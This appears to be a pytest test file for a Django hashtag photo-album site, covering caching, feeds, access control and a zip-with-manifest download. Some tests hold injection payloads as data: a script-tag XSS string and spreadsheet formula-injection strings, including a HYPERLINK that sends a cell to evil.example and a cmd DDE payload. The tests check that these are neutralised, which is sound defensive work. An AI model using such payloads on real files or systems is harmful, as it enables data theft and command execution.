from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from albums.models import Album
from collages.models import Collage
from everhash.testing.builders import make_album, make_picture
from everhash.testing.processes import inside_one_window
from pictures.models import Picture
from pictures.moderation import approve, hide

EVIL = '<script>alert("x")</script>'


def renditions_for(n: int) -> dict:
    return {
        name: {"key": f"renditions/{n:02d}/{name}.jpg", "width": size, "height": size}
        for name, size in (("thumb", 200), ("square", 400), ("medium", 1024), ("large", 2048))
    }


def bulk_pictures(album: Album, n: int) -> None:
    now = timezone.now()
    Picture.objects.bulk_create(
        [
            Picture(
                album=album,
                source="sample",
                post_id=str(10**18 + i),
                media_key=f"k{i}",
                permalink=f"https://x.com/a{i % 7}/status/{10**18 + i}",
                author_handle=f"a{i % 7}",
                like_count=i,
                posted_at=now - timedelta(hours=i),
                added_at=now - timedelta(minutes=i),
                width=100,
                height=100,
                content_hash=f"{i:064x}",
                original_key=f"originals/{i}.jpg",
                renditions=renditions_for(i % 50),
            )
            for i in range(n)
        ]
    )


@pytest.mark.parametrize(
    "url",
    [
        "/",
        "/album/sunset/",
        "/album/sunset/?order=liked",
        "/album/sunset/?page=2",
        "/album/sunset/popular/",
        "/album/sunset/by/a1/",
        "/album/sunset/feed.json",
        "/album/sunset/slideshow/",
    ],
)
def test_pages_make_the_same_number_of_queries_for_10_and_1000_pictures(client, owner, url):
    counts = []
    for n in (10, 1000):
        Album.objects.filter(hashtag="sunset").delete()
        album = make_album(owner=owner, hashtag="sunset")
        bulk_pictures(album, n)
        with CaptureQueriesContext(connection) as queries:
            response = client.get(url)
        assert response.status_code == 200, url
        counts.append(len(queries))
    assert counts[0] == counts[1]


def test_the_album_page_shows_cover_counts_progress_chart_and_the_grid(client, album):
    for i in range(3):
        make_picture(album=album, like_count=i, renditions=renditions_for(i))
    body = client.get("/album/sunset/").content.decode()
    assert "<strong>3</strong> pictures" in body
    assert "3 of 100 pictures to the next milestone" in body
    assert "<svg" in body and "Pictures added per day" in body
    assert 'loading="lazy"' in body
    assert 'srcset="/media/renditions/00/thumb.jpg 200w, /media/renditions/00/square.jpg 400w"' in body
    assert 'width="200" height="200"' in body
    # Until a collage exists the most liked picture is the cover.
    assert 'class="cover" src="/media/renditions/02/medium.jpg"' in body


def test_the_collage_is_the_cover_and_the_share_image(client, album, settings):
    settings.EVERHASH_SITE_URL = "https://everhash.example.com"
    make_picture(album=album, renditions=renditions_for(1))
    Collage.objects.create(album=album, image_key="collages/abc.jpg", square_key="collages/abc-sq.jpg", fingerprint="f")
    body = client.get("/album/sunset/").content.decode()
    assert 'class="cover" src="/media/collages/abc.jpg"' in body
    popular = client.get("/album/sunset/popular/").content.decode()
    assert '<meta property="og:image" content="https://everhash.example.com/media/collages/abc.jpg">' in popular
    assert '<meta property="og:image:width" content="1200">' in popular


def test_an_album_without_pictures_shows_a_placeholder(client, album):
    body = client.get("/album/sunset/").content.decode()
    assert "cover-placeholder" in body
    assert "No pictures yet" in body


def test_most_liked_orders_by_likes(client, album):
    make_picture(album=album, author_handle="few", like_count=1)
    make_picture(album=album, author_handle="many", like_count=900)
    make_picture(album=album, author_handle="newest", like_count=5)
    newest = client.get("/album/sunset/").content.decode()
    liked = client.get("/album/sunset/?order=liked").content.decode()
    assert newest.index("@newest") < newest.index("@many")
    assert liked.index("@many") < liked.index("@newest") < liked.index("@few")


def test_the_popular_page_has_the_7_most_liked_and_share_tags_with_absolute_urls(client, album, settings):
    settings.EVERHASH_SITE_URL = "https://everhash.example.com"
    for likes in range(10):
        make_picture(
            album=album, author_handle=f"liked{likes}", like_count=likes * 10, renditions=renditions_for(likes)
        )
    body = client.get("/album/sunset/popular/").content.decode()
    assert body.count('class="card"') == 7
    assert "@liked9" in body and "@liked2" not in body
    assert '<meta property="og:url" content="https://everhash.example.com/album/sunset/popular/">' in body
    assert '<meta property="og:image" content="https://everhash.example.com/media/renditions/09/medium.jpg">' in body
    assert '<meta name="twitter:card" content="summary_large_image">' in body


def test_the_author_page_shows_only_that_authors_visible_pictures(client, album):
    make_picture(album=album, author_handle="Ana", author_name="Ana A")
    make_picture(album=album, author_handle="ana", status=Picture.Status.HIDDEN)
    make_picture(album=album, author_handle="bob")
    response = client.get("/album/sunset/by/ana/")
    body = response.content.decode()
    assert response.status_code == 200
    assert body.count('class="card"') == 1
    assert "@bob" not in body
    assert client.get("/album/sunset/by/nobody/").status_code == 404


def test_the_author_page_is_served_from_the_page_cache_until_the_album_changes(client, album):
    make_picture(album=album, author_handle="ana")
    first = client.get("/album/sunset/by/ana/")
    with CaptureQueriesContext(connection) as queries:
        again = client.get("/album/sunset/by/ana/")
    assert again.content == first.content and again["ETag"] == first["ETag"]
    assert len(queries) == 1  # the album, for who may see it and the ETag
    make_picture(album=album, author_handle="ana")
    changed = client.get("/album/sunset/by/ana/")
    assert changed["ETag"] != first["ETag"]
    assert changed.content.decode().count('class="card"') == 2


def test_the_feed_returns_new_pictures_after_an_id(client, album):
    first = make_picture(album=album, renditions=renditions_for(1))
    second = make_picture(album=album, renditions=renditions_for(2))
    make_picture(album=album, status=Picture.Status.PENDING)
    data = client.get("/album/sunset/feed.json").json()
    assert [p["id"] for p in data["pictures"]] == [second.pk, first.pk]
    assert data["pictures"][0]["url"].startswith("http://")
    data = client.get(f"/album/sunset/feed.json?after={first.pk}").json()
    assert [p["id"] for p in data["pictures"]] == [second.pk]


def test_the_feed_pages_through_the_whole_album_newest_first(client, album):
    bulk_pictures(album, 120)
    Album.objects.filter(pk=album.pk).update(pictures_version=1)
    expected = list(album.pictures.visible().newest_first().values_list("pk", flat=True))
    got, url = [], "/album/sunset/feed.json"
    while url:
        data = client.get(url).json()
        got += [p["id"] for p in data["pictures"]]
        url = f"/album/sunset/feed.json?before={data['next']}" if data["next"] else None
    assert got == expected
    # A picture arriving while the wall pages through shifts nothing: the cursor holds its place.
    first = client.get("/album/sunset/feed.json").json()
    make_picture(album=album, content_hash="f" * 64)
    second = client.get(f"/album/sunset/feed.json?before={first['next']}").json()
    assert [p["id"] for p in second["pictures"]] == expected[50:100]


def test_the_feed_says_which_pictures_joined_and_which_are_still_visible(client, album):
    shown, other = make_picture(album=album), make_picture(album=album)
    waiting = make_picture(album=album, status=Picture.Status.PENDING, added_at=timezone.now() - timedelta(days=2))
    journal = client.get("/album/sunset/feed.json").json()["journal"]
    approve(pictures=Picture.objects.filter(pk=waiting.pk), by=album.owner)
    hide(pictures=Picture.objects.filter(pk=shown.pk), by=album.owner)
    data = client.get(f"/album/sunset/feed.json?since={journal}").json()
    # Approved two days after it was added: it joins, though it is the oldest of the album.
    assert [p["id"] for p in data["joined"]] == [waiting.pk]
    assert data["joined"][0]["joined"] > journal
    assert data["journal"] > journal
    ids = f"{shown.pk},{other.pk},{waiting.pk},999999"
    assert client.get(f"/album/sunset/feed.json?visible={ids}").json()["visible"] == sorted([other.pk, waiting.pk])
    assert client.get(f"/album/sunset/feed.json?since={data['journal']}").json()["joined"] == []


def test_the_feed_is_conditional_for_signed_in_people_too(client, album):
    """A wall run from the owner's signed-in browser gets 304s as well: the feed carries nothing personal."""
    make_picture(album=album)
    client.force_login(album.owner)
    etag = client.get("/album/sunset/feed.json?since=0")["ETag"]
    assert client.get("/album/sunset/feed.json?since=0", HTTP_IF_NONE_MATCH=etag).status_code == 304
    make_picture(album=album)
    assert client.get("/album/sunset/feed.json?since=0", HTTP_IF_NONE_MATCH=etag).status_code == 200


def test_pages_answer_304_to_a_matching_etag_and_change_when_pictures_change(client, album):
    make_picture(album=album)
    for url in ("/album/sunset/", "/album/sunset/feed.json", "/album/sunset/popular/", "/album/sunset/by/someone/"):
        first = client.get(url)
        etag = first["ETag"]
        assert client.get(url, HTTP_IF_NONE_MATCH=etag).status_code == 304
    etag = client.get("/album/sunset/")["ETag"]
    picture = make_picture(album=album)
    assert client.get("/album/sunset/", HTTP_IF_NONE_MATCH=etag).status_code == 200
    etag = client.get("/album/sunset/")["ETag"]
    hide(pictures=Picture.objects.filter(pk=picture.pk), by=album.owner)
    assert client.get("/album/sunset/", HTTP_IF_NONE_MATCH=etag).status_code == 200


def test_head_requests_get_the_headers_of_a_get(still_clock, client, album):
    """Link checkers, monitors and crawlers use HEAD; the zip download alone stays GET-only."""
    make_picture(album=album)
    for url in ("/", "/album/sunset/", "/album/sunset/popular/", "/album/sunset/feed.json", "/album/sunset/slideshow/"):
        got, head = client.get(url), client.head(url)
        assert head.status_code == got.status_code == 200, url
        if got.has_header("ETag"):
            assert head["ETag"] == got["ETag"]
        assert head.content == b""
    assert client.head("/album/sunset/download.zip").status_code == 405


def test_an_unknown_hashtag_offers_to_create_the_album(client, db):
    response = client.get("/album/brandnew/")
    body = response.content.decode()
    assert response.status_code == 404
    assert "No album for #brandnew yet" in body
    assert "Create the album #brandnew" in body


def test_the_jump_box_goes_to_the_album_or_says_what_is_wrong(client, album):
    make_picture(album=album)
    assert client.get("/go/?hashtag=%23Sunset")["Location"] == "/album/sunset/"
    response = client.get("/go/?hashtag=sun+set")
    assert response.status_code == 200
    assert "cannot contain spaces" in response.content.decode()
    # The album list stays under the error: the visitor may pick one instead.
    assert 'href="/album/sunset/"' in response.content.decode()


def test_albums_without_pictures_are_not_listed_on_the_index(client, album, owner):
    make_album(owner=owner, hashtag="brandnew")
    hidden_only = make_album(owner=owner, hashtag="hiddenonly")
    make_picture(album=hidden_only, status=Picture.Status.HIDDEN)
    make_picture(album=album)
    body = client.get("/").content.decode()
    assert 'href="/album/sunset/"' in body
    assert "/album/brandnew/" not in body and "/album/hiddenonly/" not in body


def test_the_index_shows_public_albums_most_active_first(client, owner):
    quiet = make_album(owner=owner, hashtag="quiet", title="Quiet")
    busy = make_album(owner=owner, hashtag="busy", title="Busy")
    make_album(owner=owner, hashtag="secret", visibility=Album.Visibility.UNLISTED)
    make_picture(album=quiet, added_at=timezone.now() - timedelta(days=30))
    make_picture(album=busy)
    make_picture(album=busy)
    body = client.get("/").content.decode()
    assert body.index("Busy") < body.index("Quiet")
    assert "#secret" not in body


def test_the_index_is_served_from_the_page_cache_until_an_album_changes(client, owner):
    # The index's ETag carries the minute ("updated 3 minutes ago" moves on): start well inside
    # one, so the requests below share it.
    inside_one_window(60)
    album = make_album(owner=owner, hashtag="busy", title="Busy")
    make_picture(album=album)
    first = client.get("/")
    assert "1 picture" in first.content.decode()
    with CaptureQueriesContext(connection) as queries:
        again = client.get("/")
    assert again.content == first.content
    assert len(queries) == 1  # the public albums' identities, for the ETag: no picture row
    assert client.get("/", HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304
    make_picture(album=album)
    assert "2 pictures" in client.get("/", HTTP_IF_NONE_MATCH=first["ETag"]).content.decode()
    Album.objects.filter(pk=album.pk).update(visibility=Album.Visibility.UNLISTED)
    assert "Busy" not in client.get("/").content.decode()


def test_links_inside_an_unlisted_album_keep_the_secret_key(client, owner):
    album = make_album(owner=owner, hashtag="hush", visibility=Album.Visibility.UNLISTED)
    make_picture(album=album, author_handle="who")
    body = client.get(f"/album/hush/?key={album.secret}").content.decode()
    assert f"/album/hush/popular/?key={album.secret}" in body
    assert client.get("/album/hush/popular/").status_code == 404
    assert client.get("/album/hush/feed.json").status_code == 404
    assert client.get(f"/album/hush/feed.json?key={album.secret}").status_code == 200


@pytest.mark.parametrize(
    "url",
    ["/album/sunset/", "/album/sunset/popular/", "/album/sunset/by/evil/", "/", "/album/sunset/?fragment=1"],
)
def test_markup_in_post_data_renders_as_text(client, owner, url):
    album = make_album(owner=owner, hashtag="sunset", title=f"Title {EVIL}", description=EVIL)
    make_picture(album=album, author_handle="evil", author_name=EVIL, text=EVIL, alt_text=EVIL)
    body = client.get(url).content.decode()
    assert EVIL not in body
    assert "<script>alert" not in body


def store(key: str, data: bytes) -> None:
    default_storage.save(key, ContentFile(data))


def test_the_owner_downloads_a_zip_of_originals_with_a_manifest(client, owner, album):
    first = make_picture(album=album, author_handle="ana", original_key="originals/aa/one.jpg", like_count=3)
    second = make_picture(album=album, author_handle="bo", original_key="originals/bb/two.png", text=EVIL)
    make_picture(album=album, original_key="originals/cc/hidden.jpg", status=Picture.Status.HIDDEN)
    store("originals/aa/one.jpg", b"first-bytes")
    store("originals/bb/two.png", b"second-bytes" * 100_000)
    store("originals/cc/hidden.jpg", b"hidden")
    client.force_login(owner)
    response = client.get("/album/sunset/download.zip")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert "everhash-sunset.zip" in response["Content-Disposition"]
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = archive.namelist()
    assert len(names) == 3
    assert archive.read(names[0]) == b"first-bytes"
    assert archive.read(names[1]) == b"second-bytes" * 100_000
    rows = list(csv.reader(io.StringIO(archive.read("sunset/manifest.csv").decode())))
    assert rows[0] == ["file", "author", "author_name", "post", "likes", "posted_at", "added_at", "alt_text"]
    assert [row[1] for row in rows[1:]] == ["ana", "bo"]
    assert rows[1][3] == first.permalink and rows[2][3] == second.permalink
    assert rows[1][4] == "3"


@pytest.mark.parametrize(
    "payload",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"],
)
def test_the_manifest_cannot_carry_a_spreadsheet_formula(client, owner, album, payload):
    make_picture(album=album, author_name=payload, alt_text=payload, original_key="originals/aa/one.jpg")
    store("originals/aa/one.jpg", b"first-bytes")
    client.force_login(owner)
    archive = zipfile.ZipFile(io.BytesIO(b"".join(client.get("/album/sunset/download.zip").streaming_content)))
    text = archive.read("sunset/manifest.csv").decode()
    [header, row] = list(csv.reader(io.StringIO(text)))
    assert row[header.index("author_name")] == "'" + payload
    assert row[header.index("alt_text")] == "'" + payload
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert text.startswith('"file","author",')  # every cell quoted


def test_only_the_owner_and_staff_may_download(client, album, other, staff):
    assert client.get("/album/sunset/download.zip").status_code == 302
    client.force_login(other)
    assert client.get("/album/sunset/download.zip").status_code == 403
    client.force_login(staff)
    assert client.get("/album/sunset/download.zip").status_code == 200


def test_a_missing_original_is_left_out_of_the_zip(client, owner, album):
    make_picture(album=album, original_key="originals/gone.jpg")
    client.force_login(owner)
    archive = zipfile.ZipFile(io.BytesIO(b"".join(client.get("/album/sunset/download.zip").streaming_content)))
    assert archive.namelist() == ["sunset/manifest.csv"]


def test_the_slideshow_page_points_at_the_feed(client, album):
    body = client.get("/album/sunset/slideshow/?interval=3&poll=2").content.decode()
    assert 'data-feed-url="/album/sunset/feed.json"' in body
    assert 'data-interval="3"' in body and 'data-poll="2"' in body


def test_index_tiles_load_the_small_square_of_the_collage(client, album):
    make_picture(album=album)
    Collage.objects.create(
        album=album,
        image_key="collages/a.jpg",
        square_key="collages/a-square.jpg",
        small_key="collages/a-square-400.jpg",
    )
    body = client.get("/").content.decode()
    assert 'src="/media/collages/a-square-400.jpg" width="400" height="400"' in body
    assert "collages/a-square.jpg" not in body


def test_the_author_page_reads_the_authors_pictures_along_their_own_index(album):
    from albums import pages

    make_picture(album=album, author_handle="ana")
    sql, params = pages.author_pictures(album=album, handle="ana")[:60].query.sql_with_params()
    explain = "EXPLAIN QUERY PLAN" if connection.vendor == "sqlite" else "EXPLAIN"
    with connection.cursor() as cursor:
        cursor.execute(f"{explain} {sql}", params)
        plan = str(cursor.fetchall())
    # Not picture_newest_idx: that walks the whole album (100,000 rows) for one author's 60. SQLite
    # names the index it uses; MariaDB's optimiser may pick by table size, so the index must be a candidate.
    assert "picture_author_idx" in plan, plan
